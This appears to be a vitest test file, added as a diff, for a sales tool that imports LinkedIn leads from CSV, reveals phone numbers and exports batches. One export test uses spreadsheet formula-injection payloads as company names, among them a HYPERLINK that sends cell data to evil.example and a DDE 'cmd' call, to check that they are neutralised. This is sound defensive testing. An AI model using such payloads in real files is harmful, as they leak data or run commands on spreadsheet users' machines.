@@ -1,0 +1,195 @@
+import { eq, sql } from "drizzle-orm";
+import Papa from "papaparse";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { batches, contacts, reveals } from "@/db/schema";
+import type { SessionUser } from "@/lib/auth/roles";
+import { neutraliseFormula } from "@/lib/csv/export-csv";
+import { AppError } from "@/lib/errors";
+import { exportBatchCsv } from "@/lib/reveals/export-batch";
+import { getBatchView } from "@/lib/reveals/get-batch";
+import { importRowsRequestSchema, revealImportedRows, type ImportRowsRequest } from "@/lib/reveals/import-rows";
+import { getSetting } from "@/lib/settings/settings";
+import { contactOf, providerRowsOf, revealRow } from "../support/inspect";
+import { entryFor, profileUrl, revealIdsOf, revealNow, submit } from "../support/reveal-flow";
+import { startTestApp, type TestApp } from "../support/test-app";
+
+let app: TestApp;
+
+beforeEach(async () => {
+  app = await startTestApp();
+});
+afterEach(async () => {
+  await app.close();
+});
+
+const SALES_NAV = "https://www.linkedin.com/sales/lead/ACwAAA1234,NAME_SEARCH,abcd";
+const PERSON_ID = "2751275603503088159"; // above 2^53: only a string holds it
+const importAs = (user: SessionUser, request: ImportRowsRequest) => revealImportedRows(app.db, user, importRowsRequestSchema.parse(request));
+const count = (table: typeof batches | typeof reveals | typeof contacts) => Number(app.db.select({ n: sql<number>`count(*)` }).from(table).get()?.n);
+function thrown(run: () => unknown): unknown {
+  try {
+    run();
+  } catch (error) {
+    return error;
+  }
+  throw new Error("expected it to throw");
+}
+
+describe("revealImportedRows: the server checks every row again", () => {
+  it("refuses unsupported rows by row number, counts duplicates once and keeps names, company and personIds", () => {
+    const sdr = app.createUser("sdr");
+    const created = importAs(sdr, {
+      fileName: "leads.csv",
+      rows: [
+        { row: 2, linkedinUrl: "https://www.linkedin.com/in/import-jane/", firstName: " Jane ", lastName: "Doe", company: "Acme GmbH" },
+        { row: 3, linkedinUrl: SALES_NAV, firstName: "Sal" },
+        { row: 4, linkedinUrl: "linkedin.com/in/IMPORT-JANE?trk=x", firstName: "Janet" },
+        { row: 5, personId: PERSON_ID, firstName: "Brad", company: "" },
+        { row: 6, firstName: "Nobody" },
+        { row: 7, linkedinUrl: SALES_NAV, personId: ` ${PERSON_ID}1 ` },
+        { row: 8, linkedinUrl: "https://www.linkedin.com/company/acme/" },
+        { row: 9, linkedinUrl: "https://www.linkedin.com/in/import-blank/", firstName: "   ", lastName: null },
+      ],
+    });
+    expect(created).toMatchObject({ total: 4, queued: 4, cached: 0, attached: 0, duplicates: 1 });
+    expect(created.refused).toEqual([
+      { row: 3, reason: expect.stringContaining("Sales Navigator URLs are not supported") },
+      { row: 6, reason: "This row has neither a LinkedIn URL nor a personId." },
+      { row: 8, reason: expect.stringContaining("company, school or showcase page") },
+    ]);
+
+    const batch = app.db.select().from(batches).where(eq(batches.id, created.batchId)).get();
+    expect(batch).toMatchObject({ source: "csv", fileName: "leads.csv", total: 4, createdBy: sdr.id });
+    const saved = revealIdsOf(app.db, created.batchId).map((id) => contactOf(app.db, id));
+    expect(saved).toEqual([
+      expect.objectContaining({ key: "li:https://www.linkedin.com/in/import-jane/", firstName: "Jane", lastName: "Doe", company: "Acme GmbH", personId: null }),
+      expect.objectContaining({ key: `pid:${PERSON_ID}`, linkedinUrl: null, personId: PERSON_ID, firstName: "Brad", company: null }),
+      expect.objectContaining({ key: `pid:${PERSON_ID}1`, personId: `${PERSON_ID}1`, linkedinUrl: null }),
+      expect.objectContaining({ linkedinUrl: "https://www.linkedin.com/in/import-blank/", firstName: null, lastName: null }),
+    ]);
+    expect(typeof saved[1]?.personId).toBe("string");
+  });
+
+  it("throws unprocessable when no row can be revealed, and the schema caps a file at 100,000 rows", () => {
+    const sdr = app.createUser("sdr");
+    const error = thrown(() => importAs(sdr, { rows: [{ row: 2, linkedinUrl: SALES_NAV }, { row: 3, company: "Acme" }] }));
+    expect(error).toBeInstanceOf(AppError);
+    expect(error).toMatchObject({ code: "unprocessable", details: { refused: [{ row: 2 }, { row: 3 }] } });
+    expect((error as AppError).message).toContain("None of the 2 rows");
+
+    expect(importRowsRequestSchema.safeParse({ rows: [] }).success).toBe(false);
+    const tooMany = Array.from({ length: 100_001 }, (_, i) => ({ row: i + 2, personId: String(1_000_000 + i) }));
+    const parsed = importRowsRequestSchema.safeParse({ rows: tooMany });
+    expect(parsed.success).toBe(false);
+    expect(parsed.error?.issues[0]?.message).toBe("A file can hold at most 100,000 rows; split it.");
+    expect(importRowsRequestSchema.safeParse({ rows: tooMany.slice(1) }).success).toBe(true);
+    expect(count(batches)).toBe(0);
+  });
+
+  it("creates a 10,000-row import in one call, with the ledger applied to every row", () => {
+    const { db } = app;
+    const teammate = app.createUser("sdr");
+    const rows = Array.from({ length: 10_000 }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/bulk-person-${i}/`, company: `Company ${i}` }));
+    const inFlight = submit(db, teammate, [5, 5_000, 9_999].map((i) => entryFor(rows[i]!.linkedinUrl)));
+    const created = importAs(app.createUser("sdr"), { fileName: "big.csv", rows });
+    expect(created).toMatchObject({ total: 10_000, queued: 9_997, attached: 3, cached: 0, duplicates: 0, refused: [] });
+    expect(db.select({ n: sql<number>`count(*)` }).from(reveals).where(eq(reveals.batchId, created.batchId)).get()?.n).toBe(10_000);
+    expect(count(contacts)).toBe(10_000);
+    const attached = db.select({ source: reveals.sourceRevealId }).from(reveals).where(eq(reveals.state, "cached")).all();
+    expect(attached.map((row) => row.source).sort()).toEqual([...inFlight.revealIds].sort());
+  });
+
+  it("is all or nothing: a row that fails to save leaves no batch, reveal or contact behind", () => {
+    const { db } = app;
+    const rows = Array.from({ length: 2_000 }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/atomic-${i}/` }));
+    // A real constraint failure deep in the import (row 1,500, chunk 3), raised by SQLite itself on this connection.
+    db.$client.exec(`CREATE TEMP TRIGGER refuse_one BEFORE INSERT ON main.contacts WHEN NEW.key = 'li:https://www.linkedin.com/in/atomic-1500/'
+      BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`);
+    const before = { batches: count(batches), reveals: count(reveals), contacts: count(contacts) };
+    expect(() => importAs(app.createUser("sdr"), { rows })).toThrow("refused by the test");
+    expect({ batches: count(batches), reveals: count(reveals), contacts: count(contacts) }).toEqual(before);
+    db.$client.exec("DROP TRIGGER refuse_one");
+    expect(importAs(app.createUser("sdr"), { rows }).total).toBe(2_000);
+  });
+});
+
+describe("exportBatchCsv", () => {
+  it("writes one safe row per person with the best number, every provider's status and the credits", async () => {
+    const { db } = app;
+    const [teammate, sdr] = [app.createUser("sdr"), app.createUser("sdr")];
+    const [found, missing, known] = [profileUrl("export-found", { found: true }), profileUrl("export-missing", { found: false }), profileUrl("export-known", { found: true })];
+    const earlier = submit(db, teammate, [entryFor(known)]);
+    await revealNow(app, earlier.revealIds);
+
+    const companies = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
+    const created = importAs(sdr, {
+      fileName: "export.csv",
+      rows: [
+        { row: 2, linkedinUrl: found, company: companies[0] },
+        { row: 3, linkedinUrl: missing, company: companies[1] },
+        { row: 4, linkedinUrl: known, company: companies[2] },
+        { row: 5, personId: PERSON_ID, company: companies[3] },
+      ],
+    });
+    expect(created).toMatchObject({ queued: 3, cached: 1 });
+    const ids = revealIdsOf(db, created.batchId);
+    await revealNow(app, ids);
+
+    const { csv, fileName } = exportBatchCsv(db, created.batchId, sdr);
+    expect(fileName).toMatch(new RegExp(`^reveal-desk-\\d{4}-\\d{2}-\\d{2}-${created.batchId.slice(0, 8)}\\.csv$`));
+    expect(csv.startsWith("\uFEFF")).toBe(true);
+    expect(csv.endsWith("\r\n")).toBe(true);
+    const [header, ...rows] = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data as [string[], ...string[][]];
+    const { providers } = getBatchView(db, created.batchId, sdr);
+    expect(header).toEqual([
+      "First name", "Last name", "Company", "LinkedIn URL", "personId", "State",
+      "Best number (E.164)", "Best number type", "Best number provider", "All numbers",
+      ...providers.map((provider) => `${provider} status`),
+      "Credits charged (estimate)", "Revealed by", "Note",
+    ]);
+    expect(providers.length).toBeGreaterThan(1);
+    expect(rows).toHaveLength(4);
+    const cell = (row: string[], name: string) => row[header.indexOf(name)];
+
+    // Cells a spreadsheet would run as formulas are defused; nothing else starts with = + - @ either.
+    expect(rows.map((row) => cell(row, "Company"))).toEqual(companies.map(neutraliseFormula));
+    expect(rows.map((row) => cell(row, "Company"))).toEqual(companies.map((company) => `'${company}`));
+    for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+
+    const charges = [ids[0]!, earlier.revealIds[0]!].map((id) => providerRowsOf(db, id).find((row) => row.charged)!);
+    for (const [index, charged] of [[0, charges[0]!], [2, charges[1]!]] as const) {
+      const best = charged.numbers.find((number) => number.type === "mobile") ?? charged.numbers[0]!;
+      expect(best.e164).toMatch(/^\+[1-9]\d{7,14}$/);
+      expect(cell(rows[index]!, "Best number (E.164)")).toBe(neutraliseFormula(best.e164!));
+      expect(cell(rows[index]!, "Best number type")).toBe(best.type);
+      expect(cell(rows[index]!, "Best number provider")).toBe(charged.provider);
+      expect(cell(rows[index]!, "All numbers")).toContain(`${best.e164} (${best.type}, ${charged.provider})`);
+      expect(cell(rows[index]!, `${charged.provider} status`)).toBe("found");
+    }
+    const price = getSetting(db, "providerPrices")[charges[0]!.provider];
+    expect(rows[0]).toEqual(expect.arrayContaining(["found", String(price), sdr.name]));
+    expect(cell(rows[0]!, "LinkedIn URL")).toBe(found);
+    expect(cell(rows[1]!, "State")).toBe("not found");
+    expect(cell(rows[1]!, "Best number (E.164)")).toBe("");
+    expect(cell(rows[1]!, "Credits charged (estimate)")).toBe("0");
+    expect(providers.map((provider) => cell(rows[1]!, `${provider} status`))).toEqual(providers.map(() => "notFound")); // every provider was asked
+    const answeredOn = revealRow(db, earlier.revealIds[0]!).completedAt!.toISOString().slice(0, 10);
+    expect(cell(rows[2]!, "State")).toBe("from ledger (free)");
+    expect(cell(rows[2]!, "Credits charged (estimate)")).toBe("0");
+    expect(cell(rows[2]!, "Revealed by")).toBe(`${teammate.name} (${answeredOn})`);
+    expect(cell(rows[3]!, "personId")).toBe(PERSON_ID);
+    expect(cell(rows[3]!, "LinkedIn URL")).toBe("");
+  });
+
+  it("exports a batch only for its owner and managers: another SDR gets not_found", () => {
+    const owner = app.createUser("sdr");
+    const { batchId } = importAs(owner, { rows: [{ row: 2, linkedinUrl: "https://www.linkedin.com/in/export-private/", company: "Private" }] });
+    const refused = thrown(() => exportBatchCsv(app.db, batchId, app.createUser("sdr")));
+    expect(refused).toBeInstanceOf(AppError);
+    expect(refused).toMatchObject({ code: "not_found" });
+    const mine = exportBatchCsv(app.db, batchId, owner);
+    expect(exportBatchCsv(app.db, batchId, app.createUser("manager"))).toEqual(mine);
+    expect(exportBatchCsv(app.db, batchId, app.createUser("admin"))).toEqual(mine);
+    expect(mine.csv).toContain("Private");
+  });
+});
